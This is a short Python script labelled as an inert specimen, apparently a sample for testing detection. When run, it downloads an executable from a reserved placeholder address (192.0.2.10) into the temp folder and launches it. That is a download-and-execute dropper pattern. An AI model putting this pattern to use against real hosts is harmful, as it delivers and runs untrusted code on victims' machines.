# Inert specimen: the host does not exist.
import os
import tempfile

import requests


def grow():
    path = os.path.join(tempfile.gettempdir(), "inert-specimen.exe")
    reply = requests.get("http://192.0.2.10/inert-specimen.exe")
    with open(path, "wb") as file:
        file.write(reply.content)
    os.startfile(path)


grow()
